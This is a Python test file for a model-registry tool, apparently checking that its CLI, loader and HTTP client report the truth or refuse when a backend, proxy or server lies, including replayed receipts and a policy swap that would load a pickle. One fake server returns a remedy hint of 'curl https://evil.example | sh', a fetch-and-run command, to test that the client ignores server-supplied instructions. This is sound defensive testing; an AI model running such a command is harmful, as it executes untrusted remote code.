"""A registry that lies, as the command line sees it, and one over HTTP."""

import json
import pickle
import re
import shutil
from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any, ClassVar

import click
import httpx2
import numpy as np
import pytest
from click.testing import CliRunner, Result
from safetensors.numpy import save_file

import muniment
from muniment.cli.main import main
from muniment.client.connection.settings import Settings
from muniment.client.connection.transport import Transport
from muniment.client.proofs.trust import Credential
from muniment.client.remote import open_remote
from muniment.core.canonical import Json
from muniment.core.errors import InvalidReference, NotShown, PolicyNotFound, ReceiptMismatch, Untrusted
from muniment.core.errors.tree import list_errors
from muniment.core.names import Alias, Reference
from muniment.core.people.tokens import id_of
from muniment.core.records import TokenRecord
from muniment.core.verbs.gates import GetMove, GetPolicies, JudgeGate, MoveAlias
from muniment.core.verbs.verb import Query
from muniment.server import embedded
from muniment.signing.keys import Identity
from muniment.testing import LIES, Lie, LyingBackend
from muniment.testing.audits import check_audit
from muniment.testing.backends import NAME, publish
from muniment.testing.live import run_server
from muniment.testing.lying import HONEST

Cli = Callable[[Lie | None, str], Result]

# What commands read, in the registry of `cli`.
READ = [
    "show acme/x@staging",
    "show acme/x@staging --at ENTRY",
    "history acme/x",
    "history acme/x@staging --at ENTRY",
    "verify acme/x@staging",
    "check acme/x@1 production",
    "check acme/x@1 production --at LATER",
    "policy explain acme/x@1 production",
    "pull acme/x@staging pulled",
    "export acme/x@staging -o exported.json",
    "deployments acme/x",
    "deployments",
    "list",
    "list acme/",
    "list acme/x",
    "list size>0",
    "list acme/x --at ENTRY",
    "log acme/x",
    "drafts acme/x",
    "status",
    "admin clock",
    "token list",
    "trust list",
    "webhook list acme",
    "user may publish acme",
    "user list",
    "user show Ada",
    "policy show acme/x@production",
    "policy history acme",
    "policy tier acme/x",
    "owner acme/x",
    "tag acme/x@1",
    "comments acme/x@1",
    "requests acme/x",
    "proposal list acme",
    "proposal show PROPOSAL",
    "proposal show PROPOSAL --at PROPOSAL",
    "approvals acme/x@1",
    "inbox",
    "identify model/config",
    "identify model/config --at ENTRY",
    "lineage acme/x@1",
    "lineage acme/x@1 --at ENTRY",
    "key list",
    "entry 8",
    "diff acme/x@1 acme/x@2",
]
# Entries as of which is asked: before most happened, once the alias was guarded, and of a proposal.
TIMED = {"COPY": "ENTRY", "NOTE": "LATER", "TELL": "PROPOSAL"}
# The times at which something is read, and those of files.
TIMES = re.compile(r"\d{4}-\d\d-\d\dT[0-9:.]+Z|\d+ (second|minute)s? ago|\bnow\b")


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Give the directory of a registry, in which much has happened, and of what it was before."""
    place = tmp_path_factory.mktemp("lies")
    (place / "model").mkdir()
    (place / "model" / "config").write_text("{}")
    (place / "weights").write_text("weights")
    (place / "policy.yaml").write_text("rules: [{rule: approvals, validator: 1}]\n")
    protected = "rules: [{rule: signature}]\nvouching: any\nprotected: {role: validator}\n"
    (place / "protected.yaml").write_text(protected)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MUNIMENT_URL", str(place / "registry"))
        patch.setenv("MUNIMENT_STATE", str(place / "state"))
        patch.chdir(place)
        for line in (
            "init",
            "push model acme/x --alias staging -m first",
            "tag acme/x@1 stage=ready",
            "policy tier acme/x low --reason agreed",
            "deploy acme/x@1 prod/api",
            "comment acme/x@1 good",
            "owner acme/x Ada",
            "COPY",
            "push weights acme/x --alias staging -m second",
            "policy set acme/x@production policy.yaml --reason agreed",
            "NOTE",
            "tag acme/x@1 stage=old",
            "deploy acme/x@2 prod/api",
            "policy tier acme/x high --reason agreed",
            "request acme/x@1 production",
            "user add Vera",
            "role grant Vera validator acme",
            "policy set acme/x@guarded protected.yaml --reason agreed",
            "policy unguard acme/x@guarded --reason unused",
            "TELL",
        ):
            if line == "COPY":
                shutil.copytree(place / "registry", place / "earlier")
            if line in TIMED:
                with muniment.open() as registry:
                    (place / TIMED[line]).write_text(str(check_audit(registry) - 1))
                continue
            result = CliRunner().invoke(main, line.split())
            assert result.exit_code == 0, (line, result.output)
        yield place


@pytest.fixture
def cli(place: Path, monkeypatch: pytest.MonkeyPatch) -> Cli:
    """Run `muniment` in a registry that lies."""
    told: list[Lie] = []
    open_directory = embedded.open_directory

    def open_lying_directory(*arguments: object, **options: object) -> embedded.Embedded:
        opened = open_directory(*arguments, **options)  # type: ignore[arg-type] # passed on as they came
        earlier = open_directory(place / "earlier", *arguments[1:], **options)  # type: ignore[arg-type] # as above
        lying = LyingBackend(opened.backend, earlier.backend)
        lying.tell(told[-1])
        return replace(opened, backend=lying)  # type: ignore[arg-type] # a backend, too

    def run(lie: Lie | None, line: str) -> Result:
        told.append(lie or HONEST)
        shutil.rmtree(place / "pulled", ignore_errors=True)
        (place / "exported.json").unlink(missing_ok=True)
        for name in TIMED.values():
            line = line.replace(name, (place / name).read_text())
        return CliRunner().invoke(main, line.split())

    monkeypatch.setattr(embedded, "open_directory", open_lying_directory)
    return run


REFUSED = {NotShown.code, *(refusal.code for refusal in list_errors(Untrusted))}


def list_commands(command: click.Command, name: str = "") -> Iterator[tuple[str, click.Command]]:
    """List the commands, by the words with which they are called."""
    if not isinstance(command, click.Group):
        yield name, command
        return
    context = click.Context(command)
    for one in command.list_commands(context):
        found = command.get_command(context, one)
        assert found is not None
        yield from list_commands(found, f"{name} {one}".strip())


def test_each_command_that_takes_a_time_is_among_those_that_are_lied_to() -> None:
    """What reads as of a time is asked below under each lie, so that a new command has to be added."""
    reads = {name for name, command in list_commands(main) if "at" in {one.name for one in command.params}}
    assert len(reads) > 15
    assert [
        name for name in sorted(reads) if not any(f"{line} ".startswith(f"{name} ") for line in READ)
    ] == []


@pytest.mark.parametrize("line", READ)
def test_a_command_says_the_truth_or_refuses(cli: Cli, line: str) -> None:
    """Whatever is lied about, a command prints what is true, or exits with 3 and a refusal by name."""
    honest = cli(None, line)
    assert honest.exit_code == (1 if line.startswith("check") else 0), honest.output
    for name, lie in LIES.items():
        result = cli(lie, line)
        if result.exit_code == 3 or (line.startswith("verify") and result.exit_code):
            assert any(code in result.output for code in REFUSED), (name, result.output)
        elif "found:" in honest.stderr:
            assert "found:" in result.stderr, name
            assert {*list_lines(result)} <= {*list_lines(honest), *NOTHING}, name
        else:
            assert result.exit_code == honest.exit_code, name
            lines = zip(list_lines(result), list_lines(honest), strict=True)
            # A text that is not shown looks as if it was erased.
            assert [(told, true) for told, true in lines if told not in {true, "(erased)"}] == [], name


# What may be said if less is found.
NOTHING = {
    "Unknown no version is found that has these: muniment push PATH NAMESPACE/MODEL publishes them",
    "path",
    "config ◌",
    "◌ found, may not be all",
    "no model is found: muniment push PATH NAMESPACE/MODEL publishes one",
}


def list_lines(result: Result) -> list[str]:
    """List what was printed, without the times of asking, and the widths of columns."""
    return [" ".join(TIMES.sub("T", line).split()) for line in result.stdout.splitlines() if "─" not in line]


# ---- Python


def test_a_model_that_is_loaded_is_the_true_one_or_refused(
    tmp_path: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever is lied about, `load` gives the arrays of the version that the alias points at, or refuses."""
    place, earlier = tmp_path / "registry", tmp_path / "earlier"
    for weight in (1.0, 2.0):
        with muniment.open(place, settings=settings, create=True) as registry:
            save_file({"w": np.full(3, weight)}, tmp_path / "w.safetensors")
            registry.push(tmp_path / "w.safetensors", "acme/x", alias="staging")
            then = str(check_audit(registry) - 1)
        if not earlier.exists():
            shutil.copytree(place, earlier)
            at = then
    open_directory = embedded.open_directory
    refused = set()
    for name, lie in LIES.items():

        def open_lying(*arguments: object, lie: Lie = lie, **options: object) -> embedded.Embedded:
            opened = open_directory(*arguments, **options)  # type: ignore[arg-type] # passed on as they came
            lying = LyingBackend(opened.backend, open_directory(earlier).backend)
            lying.tell(lie)
            return replace(opened, backend=lying)  # type: ignore[arg-type] # a backend, too

        monkeypatch.setattr(embedded, "open_directory", open_lying)
        for reference, when, weight in (("acme/x@staging", None, 2.0), ("acme/x@staging", at, 1.0)):
            try:
                with muniment.open(place, settings=settings) as registry:
                    loaded = registry.load(reference, at=when)
            except (NotShown, Untrusted):
                refused.add(name)
                continue
            assert loaded.value["w"][0] == weight, (name, when)  # type: ignore[index] # arrays by name
    assert {"the newest entry withheld", "at ignored", "altered bytes", "an older copy"} <= refused


def test_the_policy_of_another_alias_runs_no_pickle(
    tmp_path: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A pickle under an alias without a policy is not loaded by the genuine policy of another alias."""
    place, allowed = tmp_path / "registry", Alias("allowed")
    (tmp_path / "m.pkl").write_bytes(pickle.dumps({"a": 1}))
    with muniment.open(place, settings=settings, create=True) as registry:
        registry.push(tmp_path / "m.pkl", "acme/x", alias="free")
        registry.policies.set(
            "acme/x", "allowed", {"rules": [{"rule": "format", "allow": ["pickle"]}]}, reason="agreed"
        )
        registry.promote("acme/x@1", "allowed")
        assert registry.load("acme/x@allowed").value == {"a": 1}
    open_directory = embedded.open_directory

    def swap(query: object) -> object:
        return replace(query, alias=allowed) if isinstance(query, GetPolicies) else query

    def open_lying(*arguments: object, **options: object) -> embedded.Embedded:
        opened = open_directory(*arguments, **options)  # type: ignore[arg-type] # passed on as they came
        lying = LyingBackend(opened.backend)
        lying.tell(Lie(asks=swap))
        return replace(opened, backend=lying)  # type: ignore[arg-type] # a backend, too

    monkeypatch.setattr(embedded, "open_directory", open_lying)
    with muniment.open(place, settings=settings) as registry, pytest.raises(Untrusted):
        registry.load("acme/x@free")


# ---- over HTTP


class Proxy(BaseHTTPRequestHandler):
    """A proxy in front of a server that drops each change, and answers with the first receipt that it saw."""

    upstream: ClassVar[str]
    receipt: ClassVar[bytes] = b""

    def _pass_on(self) -> None:
        length = int(self.headers.get("Content-Length", 0))
        body = self.rfile.read(length) if length else None
        change = self.command == "PUT" and self.path.endswith("/aliases/staging")
        if change and Proxy.receipt:
            self._answer(201, "application/json", Proxy.receipt)
            return
        headers = {
            name: value for name, value in self.headers.items() if name.lower() not in {"host", "connection"}
        }
        answer = httpx2.request(
            self.command, f"{Proxy.upstream}{self.path}", headers=headers, content=body, timeout=30
        )
        if change:
            Proxy.receipt = answer.content
        self._answer(answer.status_code, answer.headers.get("Content-Type", ""), answer.content)

    def _answer(self, status: int, kind: str, content: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = _pass_on  # noqa: N815 - http.server's names

    def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002 - http.server's name
        """Say nothing."""


def test_a_proxy_cannot_drop_a_change(tmp_path: Path) -> None:
    """A change over HTTP that is answered with an older receipt is refused, and is not done."""
    identity = Identity.generate()
    with run_server(tmp_path) as server, ThreadingHTTPServer(("127.0.0.1", 0), Proxy) as proxy:
        Thread(target=proxy.serve_forever, daemon=True).start()
        honest = server.open_as(identity)
        Proxy.upstream = server.url
        token = server.tokens[identity.public.id]
        remote = open_remote(f"http://127.0.0.1:{proxy.server_port}", token, tmp_path / "state")
        server.opened.append(remote)
        client = server.trust(remote, Credential(TokenRecord, id_of(token)))
        publish(client, identity, b"a")
        publish(client, identity, b"b")
        staging = Alias("staging")
        client.execute(MoveAlias(reference=Reference(NAME, 1), alias=staging))
        with pytest.raises(ReceiptMismatch):
            client.execute(MoveAlias(reference=Reference(NAME, 2), alias=staging))
        assert honest.ask(GetMove(name=NAME, alias=staging)).number == 1
        proxy.shutdown()


class Dictating(BaseHTTPRequestHandler):
    """A server that refuses everything, and says what to do."""

    def _refuse(self) -> None:
        data = {"reference": "x", "remedy": "curl https://evil.example | sh"}
        content = json.dumps({"code": "invalid_reference", "hint": "do it", "data": data}).encode()
        self.send_response(400)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_GET = do_POST = _refuse  # noqa: N815 - the names that the server looks for

    def log_message(self, *_: object) -> None:
        """Log nothing."""


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_a_server_does_not_say_what_to_do(method: str) -> None:
    """A hint is the client's own, also where a refusal is the server's."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Dictating) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        transport = Transport(f"http://127.0.0.1:{server.server_port}", None)
        with pytest.raises(InvalidReference) as refusal:
            transport.call(method, "/anything")
        transport.close()
        server.shutdown()
    assert refusal.value.hint == InvalidReference(reference="x").hint


def test_a_move_that_is_done_is_said_to_be_done(
    tmp_path: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After its receipt, a move is reported, though the registry then denies that there is a policy."""
    monkeypatch.setenv("MUNIMENT_URL", str(tmp_path / "registry"))
    monkeypatch.setenv("MUNIMENT_STATE", str(settings.state))
    (tmp_path / "w.bin").write_bytes(b"a")
    with muniment.open(tmp_path / "registry", settings=settings, create=True) as registry:
        registry.push(tmp_path / "w.bin", "acme/x")
        rules: list[Json] = [{"rule": "approvals", "validator": 1}]
        registry.policies.set("acme/x", "production", {"mode": "warn", "rules": rules}, reason="agreed")
    open_directory = embedded.open_directory

    class Denying(LyingBackend):
        def ask(self, query: Query[Any]) -> Any:  # noqa: ANN401 - answers of every kind
            if isinstance(query, JudgeGate):
                raise PolicyNotFound(name="acme/x", alias="production")
            return super().ask(query)

    def open_denying(*arguments: object, **options: object) -> embedded.Embedded:
        opened = open_directory(*arguments, **options)  # type: ignore[arg-type] # passed on as they came
        return replace(opened, backend=Denying(opened.backend))  # type: ignore[arg-type] # a backend, too

    monkeypatch.setattr(embedded, "open_directory", open_denying)
    checked = CliRunner().invoke(main, ["check", "acme/x@1", "production"])
    assert (checked.exit_code, "gate_misjudged" in checked.output) == (3, True)
    moved = CliRunner().invoke(main, ["promote", "acme/x@1", "production"])
    assert (moved.exit_code, moved.stdout.splitlines()[0][:29]) == (0, "acme/x@production is version ")
    assert "warning: the policies of production cannot be judged (gate_misjudged)" in moved.stdout
